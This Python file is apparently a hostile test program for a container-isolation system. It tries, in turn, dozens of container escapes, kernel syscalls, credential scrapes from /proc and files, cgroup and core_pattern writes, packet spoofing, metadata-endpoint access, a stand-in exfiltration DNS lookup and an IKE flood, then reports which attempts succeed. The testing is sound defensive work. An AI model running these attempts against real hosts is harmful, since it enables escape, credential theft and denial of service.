"""A hostile training program: every way out of its container that its author could think of, tried in turn.

Runs inside a container with the hyperparameter `targets` (JSON), or on the host, as the twin that shows that ways are ways
(`hostile.py TARGETS NAME …`). Prints `ATTEMPTS` and a JSON object: by attempt null where it failed, else what was got.
An attempt is a function that returns what it got, something false where it got nothing, or raises.
"""

import ctypes
import fcntl
import glob
import json
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

DESCRIPTORS = [
    os.readlink(path) for path in glob.glob("/proc/self/fd/*") if int(path.rpartition("/")[2]) > 2 and os.path.exists(path)
]
TARGETS = {}
libc = ctypes.CDLL(None, use_errno=True)
attempts = {}


def attempt(name):
    def register(function):
        assert name not in attempts, name
        attempts[name] = function
        return function

    return register


def each(prefix, cases):
    """The same attempt on many things: cases by name."""

    def register(function):
        for name, case in cases.items():
            attempts[f"{prefix} {name}"] = lambda case=case: function(case)
        return function

    return register


def call(*arguments):
    """A system call by its number; raises OSError where the kernel refuses."""
    found = libc.syscall(*(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments))
    if found < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return found + 1


def in_child(action):
    """What `action` returns (something short) in a process of its own, which may die of it."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(write, json.dumps(action()).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as pipe:
        text = pipe.read()
    os.waitpid(child, 0)
    return json.loads(text) if text else None


def netlink(protocol, kind, body, flags=0x605):
    """One request to the kernel (flags: request, acknowledge, create, exclusive); true where it was carried out."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as plug:
        plug.settimeout(1)
        plug.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        answer = plug.recv(8192)
        error = struct.unpack_from("=i", answer, 16)[0] if struct.unpack_from("=H", answer, 4)[0] == 2 else 0
        if error:
            raise OSError(-error, "refused")
        return True


def attribute(kind, value):
    return struct.pack("=HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)


def reaches(address, port, seconds=0.7):
    with socket.create_connection((address, port), seconds):
        return f"{address}:{port} answers"


# What of the host and of others is to be seen.


@each("list the host's", {name: name for name in ("run_dir", "data_dir", "instances", "images")})
def _(name):
    return os.listdir(TARGETS[name])


@each("read the host's", {name: name for name in ("credentials", "evidence_key", "database", "specs")})
def _(name):
    with open(TARGETS[name], "rb") as file:
        return file.read(10)


@each(
    "step over its root by", {path: path for path in ("/..", "/proc/1/root", "/proc/1/cwd/../../..", "/proc/self/cwd/../../..")}
)
def _(path):
    return os.listdir(path + TARGETS["run_dir"])


@attempt("find an inherited descriptor of the host's")
def _():
    return DESCRIPTORS


@attempt("see a process of the host")
def _():
    words = ("charon", "phalanx.ipsec", "phalanx.node", "phalanx serve", "conmon", "crun", "rclone")
    seen = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with open(path, "rb") as file:
            command = file.read().replace(b"\0", b" ").decode(errors="replace")
        seen += [command[:80] for word in words if word in command and "exec(" not in command]
    return seen


@each("signal", {"the service": "service_pid", "the agent": "agent_pid", "S3": "s3_pid"})
def _(name):
    return os.kill(TARGETS[name], 0) is None and TARGETS[name] != os.getpid()


@attempt("see another job's secrets in memory, environment or files")
def _():
    found = []
    for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
        try:
            with open(path, "rb") as file:
                if TARGETS["secret"][::-1].encode() in file.read():
                    found.append(path)
        except OSError:
            continue
    for folder, _, names in os.walk("/opt/ml"):
        for name in names:
            with open(os.path.join(folder, name), "rb") as file:
                if TARGETS["secret"][::-1].encode() in file.read(1 << 20):
                    found.append(name)
    return found


@attempt("find an access key of anybody")
def _():
    found = []
    for path in [
        *glob.glob("/proc/[0-9]*/environ"),
        *glob.glob("/opt/ml/input/**/*", recursive=True),
        *glob.glob("/root/**/*", recursive=True),
    ]:
        try:
            with open(path, "rb") as file:
                found += re.findall(rb"A[KS]IA[A-Z2-7]{16}", file.read(1 << 20))
        except OSError:
            continue
    return [key.decode() for key in found]


@attempt("see System V memory of others")
def _():
    with open("/proc/sysvipc/shm") as file:
        return file.read().splitlines()[1:]


@attempt("see a network device of others")
def _():
    return [name for _, name in socket.if_nameindex() if name not in ("lo", "eth0", "ipsec0")]


@attempt("connect to an abstract Unix socket of charon or the engine")
def _():
    got = []
    with open("/proc/net/unix") as file:
        names = [line.split()[7] for line in file.read().splitlines()[1:] if len(line.split()) > 7]
    for name in names:
        with socket.socket(socket.AF_UNIX) as plug:
            try:
                plug.connect("\0" + name[1:] if name.startswith("@") else name)
                got.append(name)
            except OSError:
                continue
    return got


@each(
    "connect to", {"charon's VICI socket": "vici", "the engine's socket": "engine_socket", "the agent's socket": "agent_socket"}
)
def _(name):
    with socket.socket(socket.AF_UNIX) as plug:
        plug.connect(TARGETS[name])
        return True


@each(
    "see the kernel's",
    {name: name for name in ("kcore", "kallsyms", "keys", "timer_list", "sched_debug", "key-users", "vmallocinfo", "iomem")},
)
def _(name):
    with open(f"/proc/{name}", "rb") as file:
        text = file.read(4096)
    # Addresses of the kernel are shown as zeroes to those who may not know them.
    return re.search(rb"ffff[0-9a-f]{8}", text) or (text.strip() if name not in ("iomem", "vmallocinfo") else None)


@attempt("read the kernel's log")
def _():
    buffer = ctypes.create_string_buffer(4096)
    return call(103, 3, buffer, 4096) > 1  # syslog(SYSLOG_ACTION_READ_ALL)


@each("list /sys", {name: name for name in ("kernel/debug", "kernel/security", "firmware", "fs/bpf", "module", "hypervisor")})
def _(name):
    return os.listdir(f"/sys/{name}")


# Out of its namespaces, into the kernel.


@each("make a namespace:", {"user": 0x10000000, "network": 0x40000000, "mount": 0x20000, "pid": 0x20000000, "time": 0x80})
def _(flag):
    return in_child(lambda: call(272, flag))  # unshare


@attempt("clone into a user namespace")
def _():
    found = call(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if found == 1:
        os._exit(0)
    return found


@attempt("clone3 into a user namespace")
def _():
    arguments = struct.pack("=11Q", 0x10000000, *[0] * 3, signal.SIGCHLD, *[0] * 6)
    found = call(435, arguments, len(arguments))
    if found == 1:
        os._exit(0)
    return found


@each("enter", {name: name for name in ("net", "mnt", "user", "pid")})
def _(kind):
    target = TARGETS.get("netns") if kind == "net" else None
    return in_child(lambda: call(308, os.open(target or f"/proc/1/ns/{kind}", os.O_RDONLY), 0))  # setns


@each(
    "mount",
    {
        "a tmpfs": ("none", "tmpfs", 0),
        "proc": ("none", "proc", 0),
        "sysfs": ("none", "sysfs", 0),
        "a control group": ("none", "cgroup", 0),
        "the host's disk": ("/dev/vda", "ext4", 0),
        "a directory again": ("/", "", 4096),
        "its files writable": ("/sys", "", 32),
    },
)
def _(case):
    source, kind, flags = case
    target = source if flags == 32 else "/tmp"
    if libc.mount(source.encode(), target.encode(), kind.encode(), flags, None) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return True


@attempt("unmount what masks /proc")
def _():
    if libc.umount2(b"/proc/kcore", 2) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return True


SYSTEM_CALLS = {
    "open_tree": (428, -100, b"/", 1),
    "fsopen": (430, b"tmpfs", 0),
    "move_mount": (429, -100, b"/tmp", -100, b"/opt", 0),
    "mount_setattr": (442, -100, b"/sys", 0, bytes(32), 32),
    "pivot_root": (155, b"/tmp", b"/tmp"),
    "chroot": (161, b"/tmp"),
    "open_by_handle_at": (304, -100, struct.pack("=Ii8s", 8, 1, struct.pack("=II", 2, 0)), 0),
    "name_to_handle_at": (
        303,
        -100,
        b"/",
        ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 160),
        ctypes.create_string_buffer(4),
        0,
    ),
    "ptrace of process 1": (101, 16, 1, 0, 0),
    "ptrace of itself": (101, 0, 0, 0, 0),
    "process_vm_readv of process 1": (310, 1, 0, 0, 0, 0, 1),
    "kcmp": (312, 1, 1, 0, 0, 0),
    "pidfd_getfd": (438, 0, 0, 0),
    "bpf": (321, 0, ctypes.create_string_buffer(struct.pack("=IIII", 2, 4, 4, 1), 128), 128),
    "perf_event_open": (298, ctypes.create_string_buffer(struct.pack("=IIQ", 1, 112, 0), 112), 0, -1, -1, 0),
    "userfaultfd": (323, 0),
    "io_uring_setup": (425, 1, ctypes.create_string_buffer(120)),
    "keyctl": (250, 0, -3, 1),
    "add_key": (248, b"user", b"phalanx", b"x", 1, -3),
    "request_key": (249, b"user", b"phalanx", 0, -3),
    "init_module": (175, b"\x7fELF", 4, b""),
    "finit_module": (313, 0, b"", 0),
    "delete_module": (176, b"loop", 0),
    "kexec_load": (246, 0, 0, 0, 0),
    "reboot": (169, 0xFEE1DEAD, 672274793, 0, 0),  # LINUX_REBOOT_CMD_CAD_OFF: harmless, if it worked
    "swapon": (167, b"/tmp/swap", 0),
    "acct": (163, b"/tmp/acct"),
    "iopl": (172, 3),
    "ioperm": (173, 0x70, 1, 1),
    "sethostname": (170, b"algo-9", 6),
    "setdomainname": (171, b"algo-9", 6),
    "clock_settime": (227, 0, struct.pack("=qq", 1, 0)),
    "settimeofday": (164, struct.pack("=qq", 1, 0), 0),
    "adjtimex": (159, ctypes.create_string_buffer(struct.pack("=I4xq", 1, 0), 208)),
    "quotactl": (179, 0x80000100, b"/dev/vda", 0, 0),
    "fanotify_init": (300, 0, 0),
    "lookup_dcookie": (212, 0, ctypes.create_string_buffer(64), 64),
    "modify_ldt": (154, 0, ctypes.create_string_buffer(64), 64),
    "move_pages": (279, 1, 0, 0, 0, 0, 0),
    "landing in another personality": (135, 0x0040000),
    "vhangup": (153,),
    "capset of everything": (126, struct.pack("=II", 0x20080522, 0), struct.pack("=IIIIII", *[0xFFFFFFFF, 0xFFFFFFFF, 0] * 2)),
    "prctl to keep capabilities of the bounding set": (157, 47, 2, 12, 0, 0),
    "prctl to undo no-new-privileges": (157, 38, 0, 0, 0, 0),
    "prctl to leave seccomp": (157, 22, 0, 0, 0, 0),
}


@each("call", SYSTEM_CALLS)
def _(arguments):
    return in_child(lambda: call(*arguments))


@each(
    "make the device",
    {
        "disk": (0o60600, os.makedev(254, 0)),
        "memory": (0o20600, os.makedev(1, 1)),
        "kernel log": (0o20600, os.makedev(1, 11)),
        "tun": (0o20600, os.makedev(10, 200)),
    },
)
def _(case):
    path = f"/tmp/device-{case[1]}"
    os.mknod(path, *case)
    return open(path, "rb", buffering=0).read(1)


DEVICES = ("vda", "mem", "kmsg", "kvm", "fuse", "net/tun", "loop-control", "vhost-net")


@each("open", {f"/dev/{name}": f"/dev/{name}" for name in DEVICES})
def _(path):
    return os.open(path, os.O_RDWR) + 1


WRITES = {
    "/proc/sys/kernel/core_pattern": "|/tmp/x",
    "/proc/sys/kernel/modprobe": "/tmp/x",
    "/proc/sys/kernel/ns_last_pid": "1",
    "/proc/sys/vm/drop_caches": "1",
    "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sys/net/ipv4/ip_unprivileged_port_start": "0",
    "/proc/sys/net/ipv4/ping_group_range": "0 1",
    "/proc/sys/net/ipv4/conf/eth0/disable_xfrm": "1",
    "/proc/sys/net/ipv4/conf/all/disable_policy": "1",
    "/proc/sys/net/ipv6/conf/eth0/disable_ipv6": "0",
    "/proc/sysrq-trigger": "h",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/1/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 1",
    "/proc/irq/default_smp_affinity": "1",
    "/sys/class/net/eth0/mtu": "1000",
    "/sys/kernel/mm/transparent_hugepage/enabled": "never",
    "/dev/init": "#!/bin/sh\n",
}


@each("write", {path: path for path in WRITES})
def _(path):
    with open(path, "r+") as file:
        file.write(WRITES[path])
        file.flush()
    return True


@attempt("change its control group")
def _():
    done = []
    for root, folders, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            if name in (
                "cgroup.procs",
                "tasks",
                "release_agent",
                "notify_on_release",
                "pids.max",
                "memory.max",
                "memory.limit_in_bytes",
                "cpu.cfs_quota_us",
                "cpu.max",
                "devices.allow",
            ):
                try:
                    with open(os.path.join(root, name), "w") as file:
                        file.write("0" if "procs" in name or name == "tasks" else "-1")
                    done.append(os.path.join(root, name))
                except OSError:
                    continue
        for folder in folders[:]:
            try:
                os.mkdir(os.path.join(root, folder, "own"))
                done.append(folder)
            except OSError:
                continue
    return done


@attempt("use memory without bound")
def _():
    for path in ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max"):
        if os.path.exists(path):
            with open(path) as file:
                text = file.read().strip()
            return text == "max" or int(text) > TARGETS["memory"]
    return "no limit to be seen"


@attempt("write more than its volume holds")
def _():
    path = "/opt/ml/output/large"
    try:
        with open(path, "wb") as file:
            os.posix_fallocate(file.fileno(), 0, TARGETS["volume"] + 1)
            return True
    finally:
        os.unlink(path)


@attempt("make files without bound")
def _():
    top = "/opt/ml/output/many"
    os.mkdir(top)
    try:
        for number in range(TARGETS["volume"] >> 13):
            os.close(os.open(f"{top}/{number}", os.O_CREAT | os.O_WRONLY))
        return True
    finally:
        shutil.rmtree(top)


@attempt("start processes without bound")
def _():
    def bomb():
        threading.stack_size(1 << 16)
        gate, started = threading.Event(), 0
        try:
            while started < 6000:
                threading.Thread(target=gate.wait, daemon=True).start()
                started += 1
        except RuntimeError:
            pass
        gate.set()
        return started

    started = in_child(bomb)
    return started is None or started >= 6000


@each("raise the limit of", {"open files": 7, "core dumps": 4})
def _(kind):
    import resource

    _, hard = resource.getrlimit(kind)
    resource.setrlimit(kind, (hard + 1, hard + 1))
    return True


@each(
    "get a real-time",
    {
        "schedule": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        "priority": lambda: os.nice(-20),
        "turn at the disk": lambda: call(251, 1, 0, 1 << 13),
    },
)
def _(action):
    return in_child(lambda: action() or True)


@attempt("gain by a set-uid program")
def _():
    program = f"/opt/ml/model/suid-{os.getpid()}"
    with open("/bin/cat", "rb") as source, open(program, "wb") as copy:
        copy.write(source.read())
    os.chmod(program, 0o6755)
    try:
        text = subprocess.run([program, "/proc/self/status"], capture_output=True, text=True, check=False, user=1000).stdout
    finally:
        os.unlink(program)
    fields = dict(line.split(":\t", 1) for line in text.splitlines() if ":\t" in line)
    return fields["Uid"].split()[1] == "0" or int(fields["CapEff"], 16)


@attempt("give a file capabilities")
def _():
    with open("/tmp/capable", "w"):
        pass
    return os.setxattr("/tmp/capable", "security.capability", struct.pack("=IIIII", 0x2000001, 0xFFFFFFFF, 0, 0xFF, 0)) is None


@attempt("own a file as the host's root")
def _():
    with open("/tmp/owned", "w"):
        pass
    os.chown("/tmp/owned", 100000, 100000)
    return True


@attempt("plant a link to the host's files among its results")
def _():
    for path in ("/opt/ml/model/stolen", "/opt/ml/output/data/stolen"):
        if not os.path.islink(path):
            os.symlink(TARGETS["credentials"], path)
    return os.path.exists("/opt/ml/model/stolen")


# The network: its device, its rules, its keys, and whoever is in it.


@each(
    "open a socket:",
    {
        "packet": (17, 3, 0x300),
        "packet, cooked": (17, 2, 0x300),
        "raw ESP": (2, 3, 50),
        "raw ICMP": (2, 3, 1),
        "raw IP": (2, 3, 255),
        "raw IPv6": (10, 3, 58),
        "XFRM": (16, 3, 6),
        "netfilter": (16, 3, 12),
        "socket diagnosis": (16, 3, 4),
        "audit": (16, 3, 9),
        "kernel events": (16, 3, 15),
        "generic netlink": (16, 3, 16),
        "PF_KEY": (15, 3, 2),
        "vsock": (40, 1, 0),
        "kernel crypto": (38, 5, 0),
        "XDP": (44, 3, 0),
    },
)
def _(case):
    socket.socket(*case).close()
    return True


LINK = struct.pack("=BxHiII", 0, 0, 2, 0, 1)  # ifinfomsg: device 2, down
ROUTE = struct.pack("=8BI", 2, 32, 0, 0, 254, 4, 0, 1, 0)  # rtmsg: IPv4, /32, main, static, universe, unicast


@each(
    "tell the kernel to",
    {
        "add an address": (0, 20, struct.pack("=4BI", 2, 32, 0, 0, 2) + attribute(2, bytes([10, 9, 9, 9])), 0x605),
        "set a device down": (0, 16, LINK, 5),
        "make a device": (0, 16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(18, attribute(1, b"veth\0")), 0x605),
        "make a dummy": (0, 16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(18, attribute(1, b"dummy\0")), 0x605),
        "add a route": (0, 24, ROUTE + attribute(1, bytes([10, 30, 1, 9])) + attribute(4, struct.pack("=i", 2)), 0x605),
        "delete a route": (0, 25, struct.pack("=8BI", 2, 0, 0, 0, 254, 0, 0, 0, 0), 5),
        "add a routing rule": (0, 32, struct.pack("=8BI", 2, 0, 0, 0, 254, 0, 0, 1, 0), 0x605),
        "forge a neighbour": (
            0,
            28,
            struct.pack("=BxHiHBB", 2, 0, 2, 0x80, 0, 1) + attribute(1, bytes([169, 254, 1, 1])) + attribute(2, bytes(6)),
            0x505,
        ),
        "shape traffic": (0, 36, struct.pack("=BxHiIII", 0, 0, 2, 0, 0xFFFFFFFF, 0) + attribute(1, b"pfifo\0"), 0x605),
        "flush the security policies": (6, 0x1D, b"", 5),
        "show the keys": (6, 0x12, b"", 0x305),
        "flush nftables": (12, 0xA02, struct.pack("=BBH", 2, 0, 0), 5),
    },
)
def _(case):
    protocol, kind, body, flags = case
    return netlink(protocol, kind, body, flags)


@each(
    "by ioctl",
    {
        "set an address": 0x8916,
        "set a device down": 0x8914,
        "set the MTU": 0x8922,
        "add a route": 0x890B,
        "rename a device": 0x8923,
    },
)
def _(request):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        content = struct.pack("=16sHH4s", b"eth0", 2, 0, bytes([10, 9, 9, 9])) + bytes(100)
        fcntl.ioctl(plug, request, content)
        return True


@each(
    "set the socket option",
    {
        "mark": (1, 36, struct.pack("=I", 1)),
        "priority": (1, 12, struct.pack("=I", 7)),
        "buffer beyond its bound": (1, 33, struct.pack("=I", 1 << 30)),
        "IPsec policy": (0, 17, struct.pack("=56s112x", b"")),
        "transparent": (0, 19, struct.pack("=I", 1)),
        "header by itself": (0, 3, struct.pack("=I", 1)),
        "congestion control": (6, 13, b"dctcp"),
        "netfilter rules": (0, 64, bytes(92)),
    },
)
def _(case):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if case[0] == 6 else socket.SOCK_DGRAM) as plug:
        plug.setsockopt(*case)
        return True


@each("take the port of", {"IKE": 500, "IKE with NAT": 501, "ssh": 22})
def _(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        for option in (2, 15):
            plug.setsockopt(socket.SOL_SOCKET, option, 1)
        plug.bind(("0.0.0.0", port))
        return True


def spoofed(source, options=(), ancillary=()):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        for option in options:
            plug.setsockopt(*option)
        if options:
            plug.bind((source, 0))
        plug.sendmsg([b"spoofed"], ancillary, 0, (TARGETS["victim"], 7777))
    return True


@attempt("send as another by IP_FREEBIND")
def _():
    return spoofed(TARGETS["victim_neighbour"], [(0, 15, 1)])


@attempt("send as another by IP_PKTINFO")
def _():
    return spoofed("", (), [(0, 8, struct.pack("=i4s4s", 2, socket.inet_aton(TARGETS["victim_neighbour"]), bytes(4)))])


@attempt("make a TUN device")
def _():
    opened = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(opened, 0x400454CA, struct.pack("=16sH22x", b"own%d", 0x1001))
    return True


REACH = {
    "another job": ("victim", "victim_port"),
    "the control plane on the host": ("host", "port"),
    "S3 on the host": ("host", "s3_port"),
    "the control plane on its own loopback": ("loopback", "port"),
    "the control plane at the gateway": ("gateway", "port"),
    "S3 at the gateway": ("gateway", "s3_port"),
    "ssh on the host": ("host", "ssh_port"),
    "S3 by the endpoint of a VPC without one": ("s3_address", "s3_endpoint_port"),
    "instance metadata": ("metadata", "http"),
    "container credentials": ("credentials_endpoint", "http"),
    "the internet": ("internet", "https"),
    "its peer past its encryption": ("peer_past", "http"),
}
CONSTANT = {
    "loopback": "127.0.0.1",
    "gateway": "169.254.1.1",
    "metadata": "169.254.169.254",
    "credentials_endpoint": "169.254.170.2",
    "internet": "198.51.100.7",
    "http": 80,
    "https": 443,
    "ssh_port": 22,
}


@each("reach", {name: pair for name, pair in REACH.items() if name != "its peer past its encryption"})
def _(pair):
    address, port = ({**CONSTANT, **TARGETS}[name] for name in pair)
    return reaches(address, port)


@attempt("reach its peer past its encryption")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        plug.setsockopt(socket.SOL_SOCKET, 25, b"eth0")
        plug.sendto(b"in the clear", (TARGETS["peer"], 7777))
    return True


@attempt("resolve a name that is none of its job's")
def _():
    socket.setdefaulttimeout(1)
    return socket.gethostbyname("phalanx-exfiltration.example.com")


@each("send to everybody by", {"multicast": "239.1.1.1", "broadcast": "255.255.255.255"})
def _(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        plug.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        plug.setsockopt(socket.SOL_SOCKET, 25, b"eth0")
        plug.sendto(b"in the clear", (address, 7777))
    return True


@attempt("send IPv6 to its link")
def _():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as plug:
        plug.sendto(b"in the clear", ("ff02::1%eth0", 7777))
    return True


@attempt("stop its charon by a flood")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        own = TARGETS["own"]
        # Headers of IKE_SA_INIT (RFC 7296, 3.1) with a new initiator's SPI each, and rubbish behind.
        for number in range(20000):
            header = struct.pack("!QQBBBBII", number + 1, 0, 33, 0x20, 34, 8, 0, 60)
            try:
                plug.sendto(header + os.urandom(32), (own, 500))
            except OSError:
                continue
    time.sleep(0.5)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        plug.settimeout(5)
        plug.sendto(b"still there?", (TARGETS["peer"], 7778))
        try:
            plug.recv(100)
        except TimeoutError:
            return "its peer is out of reach"
    return None


def main(names=()):
    found = {}
    for name in names or attempts:
        try:
            got = attempts[name]()
        except (TypeError, NameError, AttributeError, KeyError) as error:
            got = f"this program is wrong: {error!r}"
        except Exception:
            got = None
        found[name] = str(got)[:300] if got else None
    print("ATTEMPTS", json.dumps(found), flush=True)


def job():
    """Algo-1 tries, algo-2 is the peer that answers until it hears that all is done."""
    with open("/opt/ml/input/config/hyperparameters.json") as file:
        TARGETS.update(json.loads(json.load(file)["targets"]))
    with open("/opt/ml/input/config/resourceconfig.json") as file:
        config = json.load(file)
    for host in config["hosts"]:
        TARGETS["own" if host == config["current_host"] else "peer"] = socket.gethostbyname(host)
    if config["current_host"] != "algo-1":
        answer(7778)
        return
    main()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        plug.settimeout(0.2)
        for _ in range(50):
            plug.sendto(b"done", (TARGETS["peer"], 7778))
            try:
                plug.recv(100)
                return
            except TimeoutError:
                continue


def answer(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plug:
        plug.bind(("", port))
        content = b""
        while content != b"done":
            content, source = plug.recvfrom(100)
            plug.sendto(content, source)


if __name__ == "__main__":
    if os.path.exists("/opt/ml/input/config"):
        job()
    else:
        TARGETS.update(json.loads(sys.argv[1]))
        main(sys.argv[2:])
